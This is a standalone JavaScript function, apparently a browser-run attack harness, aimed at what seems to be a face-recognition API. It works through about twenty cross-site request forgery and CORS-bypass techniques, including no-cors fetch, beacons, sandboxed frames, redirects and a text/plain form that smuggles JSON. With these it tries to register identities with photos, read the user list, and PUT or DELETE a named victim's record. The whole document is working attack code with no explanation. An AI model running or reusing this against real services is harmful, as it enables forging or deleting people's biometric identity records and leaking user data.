async ({target, users, match, photo, victim}) => {
  const tried = [];
  const pause = (ms) => new Promise((done) => setTimeout(done, ms));
  const within = (ms, work) => Promise.race([work, pause(ms).then(() => { throw new Error("too slow"); })]);
  const attempt = async (way, work) => {
    try {
      tried.push({way, read: String(await within(8000, work()) ?? ""), failed: ""});
    } catch (error) {
      const ours = error instanceof ReferenceError || error instanceof SyntaxError;
      tried.push({way, read: "", failed: ours ? "the script" : String(error)});
    }
  };
  const person = (id) => JSON.stringify({identity_id: id, reg_photo: photo, info: {name: id}});
  const device = (id) => JSON.stringify({device_ip: id, rgb_image_base64: photo});
  const calls = [["users", users, person], ["match", match, device]];
  const text = (options) => (url) => fetch(url, options).then((answer) => answer.text());

  const form = (url, enctype, fields) => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    document.body.append(frame);
    const sent = document.createElement("form");
    Object.assign(sent, {method: "POST", action: url, enctype, target: frame.name});
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, {type: "hidden", name, value});
      sent.append(input);
    }
    document.body.append(sent);
    return new Promise((done) => { frame.onload = done; sent.submit(); }).then(() => {
      try { return frame.contentDocument.body.innerText; } catch { return ""; }
    });
  };
  const element = (name, url) => new Promise((done) => {
    const made = document.createElement(name);
    made.onload = made.onerror = done;
    made.src = url;
    document.body.append(made);
  });
  const sandboxed = (url, body) => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    window.addEventListener("message", (message) => done(message.data), {once: true});
    const script = `fetch(${JSON.stringify(url)}, {method: "POST", mode: "no-cors", body: new Blob([${JSON.stringify(body)}])})
      .then((a) => a.text()).catch(String).then((t) => parent.postMessage(t, "*"))`;
    frame.srcdoc = "<script>" + script.replaceAll("</", "<\\/") + "</" + "script>";
    document.body.append(frame);
  });

  for (const [name, path, make] of calls) {
    const url = target + path;
    const post = (way, options, body) =>
      attempt(`${name}: ${way}`, () => text({method: "POST", ...options, body})(url));
    const typed = (type) => ({headers: {"Content-Type": type}});
    await post("fetch json", typed("application/json"), make("fetch-json"));
    await post("fetch without a type", {}, new Blob([make("no-type")]));
    await post("fetch without a type and without cors", {mode: "no-cors"}, new Blob([make("no-cors-no-type")]));
    await post("fetch bytes", {mode: "no-cors"}, new TextEncoder().encode(make("bytes")));
    await post("fetch text", {mode: "no-cors"}, make("text"));
    await post("fetch form", {mode: "no-cors", ...typed("application/x-www-form-urlencoded")}, make("form-type"));
    await post("fetch multipart", {mode: "no-cors", ...typed("multipart/form-data; boundary=x")}, make("multipart"));
    await post("fetch without a referrer", {mode: "no-cors", referrerPolicy: "no-referrer"}, new Blob([make("no-ref")]));
    await post("fetch that outlives the page", {mode: "no-cors", keepalive: true}, new Blob([make("keepalive")]));
    await post("fetch with credentials", {mode: "no-cors", credentials: "include"}, new Blob([make("credentials")]));
    await attempt(`${name}: XMLHttpRequest`, () => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.open("POST", url);
      request.onloadend = () => done(request.responseText);
      request.send(new Blob([make("xhr")]));
    }));
    await attempt(`${name}: beacon without a type`, () => navigator.sendBeacon(url, new Blob([make("beacon-no-type")])) && "");
    await attempt(`${name}: beacon text`, () => navigator.sendBeacon(url, make("beacon-text")) && "");
    await attempt(`${name}: sandboxed frame`, () => sandboxed(url, make("sandboxed")));
    await attempt(`${name}: redirect`, () =>
      text({method: "POST", mode: "no-cors", body: new Blob([make("redirect")])})("/redirect?to=" + encodeURIComponent(path)));
    const [head, tail] = make("form-text").slice(0, -1).split(/(?<=^.)/s);
    await attempt(`${name}: form as text`, () => form(url, "text/plain", {[head + tail + ',"x":"']: '"}'}));
    await attempt(`${name}: form as parts`, () => form(url, "multipart/form-data", {identity_id: "parts", reg_photo: photo}));
    await attempt(`${name}: form`, () => form(url, "application/x-www-form-urlencoded", {identity_id: "form", reg_photo: photo}));
  }
  const list = target + users + "?limit=10";
  await attempt("users: read by fetch", () => text({})(list));
  await attempt("users: read by fetch without cors", () => text({mode: "no-cors"})(list));
  await attempt("users: read in a frame", () => {
    const frame = document.createElement("iframe");
    frame.src = list;
    document.body.append(frame);
    return new Promise((done) => { frame.onload = done; }).then(() => frame.contentDocument?.body?.innerText ?? "");
  });
  for (const name of ["img", "script", "video"]) {
    await attempt(`users: ${name}`, () => element(name, list).then(() => ""));
  }
  for (const method of ["PUT", "DELETE"]) {
    const body = JSON.stringify({identity_id: victim, info: {name: "changed"}});
    await attempt(`users: ${method}`, () => text({method, body: new Blob([body])})(target + users));
    await attempt(`users: ${method} without cors`, () => text({method, mode: "no-cors", body: new Blob([body])})(target + users));
  }
  return tried;
}
